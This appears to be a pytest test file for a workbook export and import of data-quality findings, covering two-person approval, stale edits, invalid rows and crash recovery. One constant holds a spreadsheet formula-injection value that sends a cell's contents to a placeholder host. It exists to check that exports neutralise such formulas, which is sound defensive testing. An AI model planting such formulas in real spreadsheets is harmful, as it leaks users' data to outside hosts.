"""The stewards' workbook: exported, filled in, imported; who may not, what is stale, what cannot be understood."""

from __future__ import annotations

import io
import json
import multiprocessing
import re
import time
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from expectations.decisions import Account
from expectations.ledger import current_states, history, open_ledger, replay, touched_statuses
from orchestration.evidence import Printing
from orchestration.findings_import import import_findings
from orchestration.findings_workbook import Entry, Export, workbook
from tests.ledgers import LI, VIEWER, WANG
from tests.workbooks import cells, fill, rows, saved_by_libreoffice
from warehouse.home import Home

Call = Callable[..., Result]
FAR = date(2099, 1, 16)
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1)'


@pytest.fixture
def book(call: Call, tmp_path: Path) -> Path:
    result = call("findings", "export", "处理单.xlsx")
    assert result.exit_code == 0, result.output
    return tmp_path / "处理单.xlsx"


def _imported(call: Call, file: Path, *arguments: str, actor: Account = WANG) -> tuple[int, dict[str, Any]]:
    result = call("findings", "import", str(file), "--format", "json", *arguments, actor=actor)
    assert result.exit_code in (0, 1), result.output
    told: list[dict[str, Any]] = json.loads(result.stdout)
    return result.exit_code, {row["finding_id"]: row for row in told}


def _of_rule(book: Path, rule: str) -> list[str]:
    return [finding for finding, row in rows(book).items() if row["规则"] == rule]


def _states(home: Home) -> dict[str, Any]:
    with open_ledger(home.ledger_file) as engine:
        kept = current_states(engine)
        assert kept == replay(engine)
    return kept


def test_a_sheet_per_owner_with_every_open_finding(book: Path, home: Home) -> None:
    found = rows(book)
    assert {finding: row["事件号"] for finding, row in found.items()} == {
        finding: state.sequence for finding, state in _states(home).items()
    }
    assert {"出处单位", "规划编制单位", "数据管理员"} <= {row["sheet"] for row in found.values()}
    (finding,) = _of_rule(book, "B1-36")
    row = found[finding]
    assert (row["sheet"], row["严重程度"], row["状态"]) == ("出处单位", "错误 error", "待处理 open")
    assert {(row["印刷一"], row["位置一"]), (row["印刷二"], row["位置二"])} == {
        ("2.77件/万人", "息烽县科技创新目标（演示改写稿） 第17行"),
        ("2.68", "息烽县科技创新目标（演示改写稿） 第82行"),
    } or row["印刷一"].startswith("2.77")
    assert "2.77" in row["问题"]
    sheets = cells(book)
    assert next(iter(sheets)) == "说明"
    assert any("须两人" in str(cell) for line in sheets["说明"] for cell in line)


def test_choice_cells_and_links_lead_where_they_say(book: Path) -> None:
    with zipfile.ZipFile(book) as package:
        parts = {name: package.read(name).decode() for name in package.namelist() if name.endswith(".xml")}
    owners = next(text for text in parts.values() if "待处理 open,已查询 queried" in text)
    assert '"印刷一,印刷二"' in owners
    assert 'type="date"' in owners
    assert "sheetProtection" in owners
    (finding,) = _of_rule(book, "B1-36")
    links = re.findall(r"location=\"'原文'!A(\d+)\"", owners)
    sources = cells(book)["原文"]
    targets = [sources[int(row) - 1] for row in links]
    own = [row for row in targets if row[0] == finding]
    assert len(own) == 2
    start = sources.index(own[0])
    assert any("2.77" in str(row[4]) for row in sources[start : start + 5])


def test_owner_severity_and_limit_choose(call: Call, book: Path, tmp_path: Path) -> None:
    assert call("findings", "export", "a.xlsx", "--owner", "出处单位", "--severity", "error").exit_code == 0
    chosen = rows(tmp_path / "a.xlsx")
    assert {(row["sheet"], row["严重程度"]) for row in chosen.values()} == {("出处单位", "错误 error")}
    assert call("findings", "export", "b.xlsx", "--limit", "3").exit_code == 0
    assert len(rows(tmp_path / "b.xlsx")) == 3
    left = len(rows(book)) - 3
    assert any(f"还有 {left} 个" in str(cell) for line in cells(tmp_path / "b.xlsx")["说明"] for cell in line)
    unknown = call("findings", "export", "c.xlsx", "--owner", "某某")
    assert (unknown.exit_code, "规划编制单位" in unknown.output) == (1, True)
    assert call("findings", "export", "d.ods").exit_code == 2
    assert call("findings", "export", str(tmp_path / "none" / "e.xlsx")).exit_code == 1


def test_two_stewards_decide_by_workbook(call: Call, book: Path, home: Home, tmp_path: Path) -> None:
    (error,) = _of_rule(book, "B1-36")
    (warning,) = _of_rule(book, "PT-11")[:1]
    other = _of_rule(book, "PT-01")[0]
    wanted = {
        error: {"处理决定": "已接受 accepted", "采用哪处": "印刷一", "理由": "以正文为准"},
        warning: {"处理决定": "暂免 waived", "理由": "待中期评估", "暂免至": FAR},
        other: {"处理决定": "queried", "理由": "请核实", "答复期限": "2099年1月16日"},
    }
    filled = fill(book, tmp_path / "filled.xlsx", wanted)
    before = _states(home)
    assert _imported(call, filled, "--check")[0] == 0
    assert _states(home) == before, "a check records nothing"

    code, told = _imported(call, filled)
    assert code == 0
    assert {finding: row["outcome"] for finding, row in told.items()} == {
        error: "proposed",
        warning: "recorded",
        other: "recorded",
    }
    after = _states(home)
    assert (after[warning].status, after[warning].terms.until) == ("waived", FAR)
    assert (after[other].status, after[other].terms.deadline) == ("queried", FAR)
    assert after[error].status == "open"
    assert after[error].proposal.terms.prefer.figure_id == rows(book)[error]["印刷标识一"]
    assert {f for f in after if after[f] != before[f]} == set(wanted)

    # the same workbook once more: known again; of a colleague: stale
    code, again = _imported(call, filled)
    assert (code, {row["outcome"] for row in again.values()}) == (0, {"already"})
    assert _states(home) == after
    code, stale = _imported(call, filled, actor=LI)
    assert (code, {row["outcome"] for row in stale.values()}) == (1, {"conflict"})
    assert "wang" in stale[error]["message"]
    assert _states(home) == after

    # who exports after it sees the proposal, and confirms
    assert call("findings", "export", "second.xlsx", actor=LI).exit_code == 0
    second = tmp_path / "second.xlsx"
    assert "wang 提出 accepted" in rows(second)[error]["等待"]
    confirmed = fill(second, tmp_path / "confirmed.xlsx", {error: {**wanted[error], "理由": "同意"}})
    assert _imported(call, confirmed)[1][error]["outcome"] == "refused", "nobody confirms their own proposal"
    assert _imported(call, confirmed, actor=LI)[1][error]["outcome"] == "recorded"
    assert _states(home)[error].status == "accepted"
    assert _imported(call, confirmed, actor=LI)[1][error]["outcome"] == "already"


def test_a_bad_row_is_told_and_the_good_ones_are_recorded(call: Call, book: Path, home: Home, tmp_path: Path) -> None:
    ids = [*_of_rule(book, "PT-01"), *_of_rule(book, "B2-15")]
    levels_not = _of_rule(book, "PT-11")[0]
    good = {"处理决定": "我方错误 our_error", "理由": "读错行"}
    wanted: dict[str, dict[str, Any]] = {
        ids[0]: good,
        ids[1]: {**good, "处理决定": "差不多"},
        ids[2]: {"理由": "忘了选"},
        ids[3]: {"处理决定": "误报 false_positive"},
        ids[4]: {"处理决定": "暂免 waived", "理由": "x"},
        ids[5]: {**good, "答复期限": FAR},
        ids[6]: {"处理决定": "已查询 queried", "理由": "x", "答复期限": "下周"},
        ids[7]: {"处理决定": "已查询 queried", "理由": "x", "答复期限": date(2020, 1, 1)},
        ids[8]: {**good, "问题标识": "fnd_00000000000000000000"},
        ids[9]: {**good, "事件号": 7},
        ids[10]: {**good, "采用哪处": "印刷三"},
        levels_not: {"处理决定": "已接受 accepted", "理由": "x", "采用哪处": "印刷一"},
        ids[11]: {**good, "事件号": "一"},
    }
    code, told = _imported(call, fill(book, tmp_path / "filled.xlsx", wanted))
    assert code == 1
    said = {
        ids[1]: "不在列表中",
        ids[2]: "没有选择",
        ids[3]: "没有写“理由”",
        ids[4]: "“暂免至”",
        ids[5]: "“答复期限”",
        ids[6]: "不是日期",
        ids[7]: "已过去",
        "fnd_00000000000000000000": "台账中没有",
        ids[10]: "不是此问题的印刷",
        levels_not: "only a level",
        ids[11]: "被改动",
    }
    for finding, words in said.items():
        assert (told[finding]["outcome"], words in told[finding]["message"]) == ("refused", True), told[finding]
    assert told[ids[9]]["outcome"] == "conflict"
    assert told[ids[0]]["outcome"] == "recorded"
    touched = {finding for finding, state in _states(home).items() if state.status != "open"}
    assert touched == {ids[0]}
    table = call("findings", "import", str(tmp_path / "filled.xlsx"))
    assert (table.exit_code, "不符合要求" in table.output, "空行" in table.output) == (1, True, True)


def test_the_same_finding_twice_is_decided_neither_way(call: Call, book: Path, home: Home, tmp_path: Path) -> None:
    finding = _of_rule(book, "PT-01")[0]
    twice = fill(book, tmp_path / "twice.xlsx", {finding: {"处理决定": "误报 false_positive", "理由": "x"}}, copies=2)
    code, told = _imported(call, twice)
    assert (code, told[finding]["outcome"], "填了两次" in told[finding]["message"]) == (1, "refused", True)
    assert _states(home)[finding].status == "open"


def test_only_a_steward_is_recorded(call: Call, book: Path, home: Home, tmp_path: Path) -> None:
    finding = _of_rule(book, "PT-01")[0]
    filled = fill(book, tmp_path / "f.xlsx", {finding: {"处理决定": "误报 false_positive", "理由": "x"}})
    for actor in (VIEWER, Account("somebody", "")):
        code, told = _imported(call, filled, actor=actor)
        assert (code, told[finding]["outcome"], actor.account in told[finding]["message"]) == (1, "refused", True)
    assert _states(home)[finding].status == "open"


@pytest.mark.parametrize("content", [b"", b"no workbook", b"PK\x03\x04 broken"])
def test_a_file_that_is_no_workbook(call: Call, tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "broken.xlsx"
    file.write_bytes(content)
    refused = call("findings", "import", str(file))
    assert (refused.exit_code, "xlsx" in refused.output) == (2, True)


def test_a_workbook_of_something_else(call: Call, book: Path, tmp_path: Path) -> None:
    import xlsxwriter

    with xlsxwriter.Workbook(str(tmp_path / "other.xlsx")) as other:
        other.add_worksheet("工资").write_string(0, 0, "问题标识")
    refused = call("findings", "import", str(tmp_path / "other.xlsx"))
    assert (refused.exit_code, "provstat findings export" in refused.output) == (2, True)


def test_texts_of_a_source_stay_texts() -> None:
    printing = Printing(
        "text", "fig_1", "src_1", 3, 3, None, FORMULA, "x", "actual", "eq", None, FORMULA, None, "第3行"
    )
    entry = Entry("fnd_1", 1, "R1", "error", "open", "", FORMULA, "2020", FORMULA, FORMULA, FORMULA, "", (printing,))
    made = Export(datetime(2026, 1, 5, tzinfo=UTC), FORMULA, "r", 0)
    content = workbook({"=1+1": [entry], "a/b:[c]": [entry]}, {"fig_1": [(3, FORMULA, True)]}, made)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        texts = "".join(package.read(name).decode() for name in package.namelist() if name.endswith(".xml"))
    assert "<f>" not in texts
    shown = re.findall(r"<t[^>]*>([^<]*HYPERLINK[^<]*)</t>", texts)
    assert shown
    assert all(text.startswith(("'", "《")) for text in shown), shown


def _import(root: str, file: str) -> None:
    import_findings(Home.at(root), Path(file), WANG, datetime.now(UTC))


@pytest.mark.full
def test_an_import_that_is_killed_is_simply_repeated(call: Call, book: Path, home: Home, tmp_path: Path) -> None:
    """What was recorded when it died stays recorded, once; the same workbook records the rest."""
    wanted = {finding: {"处理决定": "our_error", "理由": "读错行"} for finding in rows(book)}
    filled = fill(book, tmp_path / "filled.xlsx", wanted)
    process = multiprocessing.get_context("spawn").Process(target=_import, args=(str(home.root), str(filled)))
    process.start()
    deadline = time.monotonic() + 120
    while process.is_alive() and time.monotonic() < deadline:
        with open_ledger(home.ledger_file) as engine:
            begun = len(touched_statuses(engine)) >= 2
        if begun:
            process.kill()
            break
    process.join(60)
    recorded = {finding for finding, state in _states(home).items() if state.status == "our_error"}
    assert len(recorded) >= 2

    code, told = _imported(call, filled)
    assert code == 0
    assert {finding for finding, row in told.items() if row["outcome"] == "already"} == recorded
    assert {state.status for state in _states(home).values()} == {"our_error"}
    with open_ledger(home.ledger_file) as engine:
        assert {len(history(engine, finding)) for finding in wanted} == {2}


@pytest.mark.full
def test_a_workbook_that_libreoffice_has_saved(call: Call, book: Path, home: Home, tmp_path: Path) -> None:
    (error,) = _of_rule(book, "B1-36")
    other = _of_rule(book, "PT-01")[0]
    wanted = {
        error: {"处理决定": "已接受 accepted", "采用哪处": "印刷一", "理由": "以正文为准"},
        other: {"处理决定": "已查询 queried", "理由": "请核实", "答复期限": FAR},
    }
    filled = fill(book, tmp_path / "filled.xlsx", wanted)
    folder = tmp_path / "libreoffice"
    folder.mkdir()
    code, told = _imported(call, saved_by_libreoffice(filled, folder))
    assert (code, told[error]["outcome"], told[other]["outcome"]) == (0, "proposed", "recorded")
    assert _states(home)[other].terms.deadline == FAR
    # and the one that was exported keeps its choice cells
    with zipfile.ZipFile(saved_by_libreoffice(book, folder)) as package:
        texts = "".join(package.read(n).decode() for n in package.namelist() if "worksheets/sheet" in n)
    assert "已接受 accepted" in texts
    assert texts.count("dataValidation ") >= 4
    with open_ledger(home.ledger_file) as engine:
        assert [event.actor for event in history(engine, error)][-1] == "wang"
